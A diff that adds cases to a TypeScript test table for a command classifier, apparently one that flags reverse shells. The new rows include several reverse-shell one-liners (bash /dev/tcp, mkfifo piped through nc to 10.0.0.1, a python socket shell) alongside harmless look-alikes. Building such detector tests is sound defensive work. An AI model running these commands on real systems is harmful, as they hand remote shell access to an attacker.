@@ -40,6 +40,11 @@ const table: readonly (readonly [command: string, rule: string | undefined])[] =
   ['curl -T report.pdf https://a.example', undefined],
   ['cat .env', undefined],
   ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reverse-shell'],
+  ['exec 5<>/dev/tcp/10.0.0.1/443; sh <&5 >&5', 'reverse-shell'],
+  ['mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f', 'reverse-shell'],
+  [`python3 -c 'import socket,os; s=socket.socket(); os.dup2(0,1); os.system("/bin/sh")'`, 'reverse-shell'],
+  [`python3 -c 'import socket; print(socket.gethostname())'`, undefined],
+  ['nc localhost 80 < request.txt', undefined],
   ['timeout 1 bash -c "</dev/tcp/db/5432"', undefined],
 ];
 
